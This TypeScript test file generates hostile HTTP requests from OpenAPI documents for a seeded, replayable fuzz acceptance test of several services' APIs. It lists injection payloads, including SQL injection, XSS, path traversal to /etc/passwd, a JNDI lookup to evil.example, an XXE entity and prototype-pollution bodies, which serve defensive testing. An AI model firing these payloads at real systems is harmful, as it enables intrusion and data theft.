import { randomUUID } from 'node:crypto';

/**
 * Hostile HTTP requests for the fuzz acceptance test, generated from each
 * service's OpenAPI document with a seeded PRNG so a failure can be replayed.
 *
 * Every request the generator makes must be refused by a correct service,
 * so "zero rows written, zero events" is a sound assertion. Each one
 * therefore carries at least one element that is rejected whatever else it
 * holds: an untrustworthy token, a body with an unknown property (the
 * validation pipe forbids them) or one the body parser refuses, a path
 * parameter that cannot be an id, a caller whose role the controller does not
 * allow, or a caller of the right kind but another organisation acting on an
 * id that belongs to someone else. Reads (GET) need no such element: they
 * may succeed, and may only add access-log rows.
 */

export type HttpMethod = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';

export interface OpenApiSchema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  items?: OpenApiSchema;
  properties?: Record<string, OpenApiSchema>;
  required?: string[];
  allOf?: OpenApiSchema[];
  oneOf?: OpenApiSchema[];
  anyOf?: OpenApiSchema[];
  minimum?: number;
  nullable?: boolean;
}

interface OpenApiParameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  schema?: OpenApiSchema;
}

interface OpenApiOperation {
  parameters?: OpenApiParameter[];
  requestBody?: { content?: Record<string, { schema?: OpenApiSchema }> };
}

export interface OpenApiDocument {
  /** The first server's URL is the base of every path (`/api/v1`, the major version in the URI). */
  servers?: { url: string }[];
  paths: Record<string, Partial<Record<Lowercase<HttpMethod>, OpenApiOperation>>>;
  components?: { schemas?: Record<string, OpenApiSchema> };
}

export interface Endpoint {
  service: string;
  baseUrl: string;
  method: HttpMethod;
  /** OpenAPI template, e.g. `/api/v1/pathways/{id}/closure`. */
  path: string;
  pathParams: Array<{ name: string; schema?: OpenApiSchema }>;
  queryParams: Array<{ name: string; schema?: OpenApiSchema }>;
  bodySchema?: OpenApiSchema;
  document: OpenApiDocument;
}

/** The `/api/v1` operations a service documents. */
export function endpointsOf(service: string, baseUrl: string, document: OpenApiDocument): Endpoint[] {
  const endpoints: Endpoint[] = [];
  const base = document.servers?.[0]?.url ?? '';
  for (const [relative, operations] of Object.entries(document.paths)) {
    const path = `${base}${relative}`;
    if (!path.startsWith('/api/v1')) continue;
    for (const method of ['get', 'post', 'put', 'patch', 'delete'] as const) {
      const operation = operations[method];
      if (!operation) continue;
      const parameters = operation.parameters ?? [];
      endpoints.push({
        service,
        baseUrl,
        method: method.toUpperCase() as HttpMethod,
        path,
        pathParams: parameters.filter((p) => p.in === 'path').map(({ name, schema }) => ({ name, schema })),
        queryParams: parameters.filter((p) => p.in === 'query').map(({ name, schema }) => ({ name, schema })),
        bodySchema: operation.requestBody?.content?.['application/json']?.schema,
        document,
      });
    }
  }
  return endpoints;
}

/** A lone surrogate cannot be percent-encoded as UTF-8; send the bytes a naive encoder would (invalid UTF-8). */
function encodeQuery(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

/** mulberry32: small, fast, and the same sequence for the same seed on every machine. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const INJECTION_STRINGS: readonly string[] = [
  "' OR 1=1--",
  "'; DROP TABLE outbox; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  '{"$gt":""}',
  '{"$where":"sleep(1000)"}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'nul\u0000byte',
  '\u0000',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '\u202eevil',
  '😀👩‍👩‍👧‍👦',
  'Ω≈ç√∫˜µ≤≥÷',
  '\ud800',
  'GM0344',
  'urn:nld:ketenpad:municipality:GM0344',
];

const WRONG_TYPE_VALUES: readonly unknown[] = [
  12345,
  -1,
  1e308,
  0.5,
  true,
  false,
  null,
  [],
  {},
  { $gt: '' },
  [1, 2, 3],
  'NaN',
  '',
  ' ',
  'x'.repeat(5000),
];

/** Path values that cannot be any id, kind or patient reference (each has a character outside `[A-Za-z0-9-]` or is far too long). */
const MALFORMED_PATH_VALUES: readonly string[] = [
  encodeURIComponent("' OR 1=1--"),
  encodeURIComponent('../../etc/passwd'),
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%00',
  'abc%00def',
  encodeURIComponent('{"$gt":""}'),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('😀'),
  encodeURIComponent('1;DROP TABLE x'),
  '%E0%A4%A',
  '%',
  'A'.repeat(3000),
  encodeURIComponent(' '),
  'null%20',
];

/** Look like UUIDs but are not valid ones; only for id parameters. */
const BAD_UUIDS: readonly string[] = [
  '00000000-0000-0000-0000-00000000000g',
  '12345678-1234-1234-1234-1234567890123',
  'not-a-uuid',
  '0',
  '-1',
  '00000000000000000000000000000000x',
];

const UUID_PARAMS = new Set(['id', 'pathwayId', 'referralId', 'consentId']);

export interface TokenSet {
  /** A token of the organisation and role each service serves. */
  own: Record<string, string>;
  /** Same kind of organisation and role, but another organisation (foreign to the seeded ids). */
  foreignSameKind: Record<string, string>;
  /** Valid tokens whose role no endpoint of the service allows for writes. */
  otherKinds: Record<string, string[]>;
  /** Authorization header values that must never authenticate. */
  hostileHeaders: string[];
}

/** Ids that exist in the services, owned by the `own` organisations. */
export type SeededIds = Partial<Record<string, Record<string, string>>>;

export interface HostileRequest {
  category: string;
  endpoint: Endpoint;
  url: string;
  method: HttpMethod;
  headers: Record<string, string>;
  body?: string;
  /** Statuses a correct service answers with; undefined means any non-5xx. */
  expected?: readonly number[];
}

export class HostileRequestGenerator {
  private readonly random: () => number;

  constructor(
    seed: number,
    private readonly tokens: TokenSet,
    private readonly seeded: SeededIds,
  ) {
    this.random = seededRandom(seed);
  }

  /** The `index`-th request: endpoints in turn so each is hit evenly, the attack by chance. */
  next(endpoints: readonly Endpoint[], index: number): HostileRequest {
    const endpoint = endpoints[index % endpoints.length]!;
    const roll = this.random();
    if (roll < 0.2) return this.hostileToken(endpoint);
    if (roll < 0.45) return this.mutatedBody(endpoint);
    if (roll < 0.6) return this.rawBody(endpoint);
    if (roll < 0.75) return this.malformedPath(endpoint);
    if (roll < 0.9) return this.wrongCaller(endpoint);
    return this.queryJunk(endpoint);
  }

  /** A well-formed request (real ids, valid body) with a token that must not authenticate. */
  private hostileToken(endpoint: Endpoint): HostileRequest {
    const header = this.pick(this.tokens.hostileHeaders);
    const headers: Record<string, string> = header === '' ? {} : { authorization: header };
    return this.request(
      'hostile-token',
      endpoint,
      this.realPath(endpoint),
      headers,
      this.validBody(endpoint),
      [401, 431],
    );
  }

  /** The right caller with a body that breaks the schema: always an unknown property, plus wrong types, injections and huge strings. */
  private mutatedBody(endpoint: Endpoint): HostileRequest {
    if (endpoint.method === 'GET') return this.queryJunk(endpoint);
    const body = (this.sample(endpoint.bodySchema, endpoint.document, 0) ?? {}) as Record<string, unknown>;
    const target = typeof body === 'object' && body !== null && !Array.isArray(body) ? body : {};
    const keys = Object.keys(target);
    const mutations = 1 + Math.floor(this.random() * 3);
    for (let i = 0; i < mutations && keys.length > 0; i++) {
      const key = this.pick(keys);
      const action = this.random();
      if (action < 0.4) target[key] = this.pick(WRONG_TYPE_VALUES);
      else if (action < 0.8) target[key] = this.pick(INJECTION_STRINGS);
      else delete target[key];
    }
    // Never a documented property: the unknown key is what makes the body certainly invalid.
    const candidate = this.pick(['$where', '$gt', 'isAdmin', 'org_id', 'roles', `x${Math.floor(this.random() * 1e6)}`]);
    const unknownKey =
      candidate in target || keys.includes(candidate) ? `unknown_${Math.floor(this.random() * 1e6)}` : candidate;
    target[unknownKey] =
      this.random() < 0.2 ? 'y'.repeat(30_000) : this.pick([...INJECTION_STRINGS, ...WRONG_TYPE_VALUES]);
    const path = this.random() < 0.5 ? this.realPath(endpoint) : this.randomIdPath(endpoint);
    if (!endpoint.bodySchema) {
      // No DTO reads the body, so only the path or the token can make it invalid.
      return endpoint.pathParams.length > 0
        ? this.request(
            'mutated-body',
            endpoint,
            this.malformedPathOf(endpoint),
            this.own(endpoint),
            JSON.stringify(target),
            [400, 403, 404],
          )
        : this.request(
            'mutated-body',
            endpoint,
            path,
            { authorization: this.pick(this.tokens.hostileHeaders.filter(Boolean)) },
            JSON.stringify(target),
            [401, 431],
          );
    }
    return this.request('mutated-body', endpoint, path, this.own(endpoint), JSON.stringify(target), [400, 403]);
  }

  /** Bodies the HTTP layer refuses before any handler: bad JSON, wrong type, too large, too deep, prototype keys. */
  private rawBody(endpoint: Endpoint): HostileRequest {
    if (endpoint.method === 'GET') return this.queryJunk(endpoint);
    const deep = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
    const variants: Array<[string, string, readonly number[]]> = [
      ['application/json', '{', [400]],
      ['application/json', '{"bsn":}', [400]],
      ['application/json', "{'bsn':'111222333'}", [400]],
      ['application/json', '{"a":1}garbage', [400]],
      ['application/json', 'NaN', [400]],
      ['application/json', 'null', [400]],
      ['application/json', '12345', [400]],
      ['application/json', '"just a string"', [400]],
      ['application/json', '\u0000\u0001\u0002', [400]],
      ['application/json', '\ufeff{"a":1', [400]],
      ['application/json', JSON.stringify({ pad: 'z'.repeat(100_000) }), [413]],
      ['application/json', `[${'1,'.repeat(60_000)}1]`, [413]],
      ['application/json', deep(5_000), [400]],
      ['application/json', '['.repeat(20_000) + ']'.repeat(20_000), [400]],
      ['application/json', deep(40), [400]],
      ['application/json', '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}', [400]],
      ['application/json', '{"a":{"__proto__":{"polluted":true}}}', [400]],
      ['application/json; charset=utf-16', '{"a":1}', [400, 415]],
      ['application/json; charset=koi8-r', '{"a":1}', [415]],
      ['text/plain', '{"a":1}', [415]],
      [
        'application/xml',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        [415],
      ],
      ['application/x-www-form-urlencoded', 'bsn=111222333&channel=balie', [415]],
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--', [415]],
      ['', '{"a":1}', [415]],
    ];
    const [contentType, body, expected] = this.pick(variants);
    const headers = { ...this.own(endpoint), ...(contentType === '' ? {} : { 'content-type': contentType }) };
    return this.request('raw-body', endpoint, this.realPath(endpoint), headers, body, expected);
  }

  /** Path parameters that cannot be ids (injection, traversal, null bytes, bad UTF-8, overlong). */
  private malformedPath(endpoint: Endpoint): HostileRequest {
    if (endpoint.pathParams.length === 0)
      return endpoint.method === 'GET' ? this.queryJunk(endpoint) : this.mutatedBody(endpoint);
    const token =
      this.random() < 0.7 ? this.own(endpoint) : { authorization: `Bearer ${this.pick(this.allValidTokens())}` };
    return this.request(
      'malformed-path',
      endpoint,
      this.malformedPathOf(endpoint),
      token,
      this.validBody(endpoint),
      [400, 403, 404, 414],
    );
  }

  /**
   * Valid requests from the wrong caller: a role the controller does not
   * allow (403), or the right role of another organisation on ids that
   * belong to someone else (404/409). Writes only where both hold for certain.
   */
  private wrongCaller(endpoint: Endpoint): HostileRequest {
    const seeded = this.seeded[endpoint.service];
    const hasSeededId =
      endpoint.pathParams.length > 0 && endpoint.pathParams.every((p) => seeded?.[p.name] !== undefined);
    if (endpoint.method === 'GET' || (hasSeededId && this.random() < 0.5)) {
      const token =
        this.random() < 0.5
          ? this.tokens.foreignSameKind[endpoint.service]!
          : this.pick(this.tokens.otherKinds[endpoint.service]!);
      if (endpoint.method !== 'GET' && !hasSeededId)
        return this.request(
          'wrong-role',
          endpoint,
          this.realPath(endpoint),
          { authorization: `Bearer ${this.pick(this.tokens.otherKinds[endpoint.service]!)}` },
          this.validBody(endpoint),
          [403],
        );
      return this.request(
        'foreign-organisation',
        endpoint,
        this.realPath(endpoint),
        { authorization: `Bearer ${token}` },
        this.validBody(endpoint),
        endpoint.method === 'GET' ? undefined : [400, 403, 404, 409],
      );
    }
    const token = this.pick(this.tokens.otherKinds[endpoint.service]!);
    return this.request(
      'wrong-role',
      endpoint,
      this.realPath(endpoint),
      { authorization: `Bearer ${token}` },
      this.validBody(endpoint),
      [403],
    );
  }

  /** Unknown, repeated, bracketed and injected query parameters; on writes combined with a refused body. */
  private queryJunk(endpoint: Endpoint): HostileRequest {
    const junk = [
      `status=${encodeURIComponent("' OR 1=1--")}`,
      'status[]=open&status[]=closed',
      'status=open&status=closed',
      '__proto__[isAdmin]=true',
      'constructor[prototype][isAdmin]=true',
      `limit=-1&offset=${encodeURIComponent('1; DROP TABLE x')}`,
      `from=${encodeURIComponent('2024-13-45')}&to=yesterday`,
      `q=${encodeURIComponent('{"$gt":""}')}`,
      'a=%00&b=%E0%A4%A',
      Array.from({ length: 300 }, (_, i) => `p${i}=${i}`).join('&'),
      `municipality=GM0344&orgId=GM0344`,
      `x=${'q'.repeat(6000)}`,
    ];
    for (const param of endpoint.queryParams) {
      junk.push(
        `${param.name}=${encodeQuery(this.pick(INJECTION_STRINGS))}`,
        `${param.name}[$ne]=1`,
        `${param.name}=1&${param.name}=2`,
      );
    }
    const query = this.pick(junk);
    const path = `${this.realPath(endpoint)}?${query}`;
    if (endpoint.method === 'GET')
      return this.request('query-junk', endpoint, path, this.own(endpoint), undefined, undefined);
    return this.request('query-junk', endpoint, path, this.own(endpoint), '{"a":', [400]);
  }

  private request(
    category: string,
    endpoint: Endpoint,
    path: string,
    headers: Record<string, string>,
    body: string | undefined,
    expected: readonly number[] | undefined,
  ): HostileRequest {
    const withBody = endpoint.method !== 'GET' && body !== undefined;
    const finalHeaders = { ...headers };
    if (
      withBody &&
      !Object.keys(finalHeaders).some((h) => h.toLowerCase() === 'content-type') &&
      category !== 'raw-body'
    )
      finalHeaders['content-type'] = 'application/json';
    return {
      category,
      endpoint,
      url: `${endpoint.baseUrl}${path}`,
      method: endpoint.method,
      headers: finalHeaders,
      body: withBody ? body : undefined,
      expected,
    };
  }

  private own(endpoint: Endpoint): Record<string, string> {
    return { authorization: `Bearer ${this.tokens.own[endpoint.service]!}` };
  }

  private allValidTokens(): string[] {
    return [...Object.values(this.tokens.own), ...Object.values(this.tokens.foreignSameKind)];
  }

  /** The path with seeded ids where there are some, otherwise fresh random UUIDs or the documented enum value. */
  private realPath(endpoint: Endpoint): string {
    const seeded = this.seeded[endpoint.service] ?? {};
    return this.fill(endpoint, (param) => seeded[param.name] ?? this.plausible(param));
  }

  private randomIdPath(endpoint: Endpoint): string {
    return this.fill(endpoint, (param) => (UUID_PARAMS.has(param.name) ? randomUUID() : this.plausible(param)));
  }

  private malformedPathOf(endpoint: Endpoint): string {
    const victim = this.pick(endpoint.pathParams).name;
    const seeded = this.seeded[endpoint.service] ?? {};
    return this.fill(endpoint, (param) => {
      if (param.name !== victim) return seeded[param.name] ?? this.plausible(param);
      return UUID_PARAMS.has(param.name) && this.random() < 0.4
        ? this.pick(BAD_UUIDS)
        : this.pick(MALFORMED_PATH_VALUES);
    });
  }

  private plausible(param: { name: string; schema?: OpenApiSchema }): string {
    if (param.schema?.enum?.length) return encodeURIComponent(String(param.schema.enum[0]));
    if (UUID_PARAMS.has(param.name)) return randomUUID();
    return 'fuzz-ref-1';
  }

  private fill(endpoint: Endpoint, value: (param: { name: string; schema?: OpenApiSchema }) => string): string {
    return endpoint.path.replace(/\{([^}]+)\}/g, (_match, name: string) =>
      value(endpoint.pathParams.find((p) => p.name === name) ?? { name }),
    );
  }

  private validBody(endpoint: Endpoint): string | undefined {
    if (endpoint.method === 'GET') return undefined;
    return JSON.stringify(this.sample(endpoint.bodySchema, endpoint.document, 0) ?? {});
  }

  /** A value that fits the schema as documented (first enum value, plausible formats). */
  private sample(schema: OpenApiSchema | undefined, document: OpenApiDocument, depth: number): unknown {
    if (schema === undefined || depth > 8) return undefined;
    if (schema.$ref)
      return this.sample(document.components?.schemas?.[schema.$ref.split('/').pop()!], document, depth + 1);
    if (schema.allOf)
      return Object.assign({}, ...schema.allOf.map((s) => this.sample(s, document, depth + 1) as object));
    const alternative = schema.oneOf?.[0] ?? schema.anyOf?.[0];
    if (alternative) return this.sample(alternative, document, depth + 1);
    if (schema.enum?.length) return schema.enum[0];
    if (schema.type === 'array') return [this.sample(schema.items, document, depth + 1)];
    if (schema.type === 'object' || schema.properties) {
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, property]) => [
          key,
          this.sample(property, document, depth + 1),
        ]),
      );
    }
    if (schema.type === 'integer' || schema.type === 'number') return schema.minimum ?? 1;
    if (schema.type === 'boolean') return false;
    if (schema.format === 'uuid') return randomUUID();
    if (schema.format === 'date') return new Date().toISOString().slice(0, 10);
    if (schema.format === 'date-time') return new Date().toISOString();
    return 'fuzz';
  }

  private pick<T>(values: readonly T[]): T {
    return values[Math.floor(this.random() * values.length)]!;
  }
}
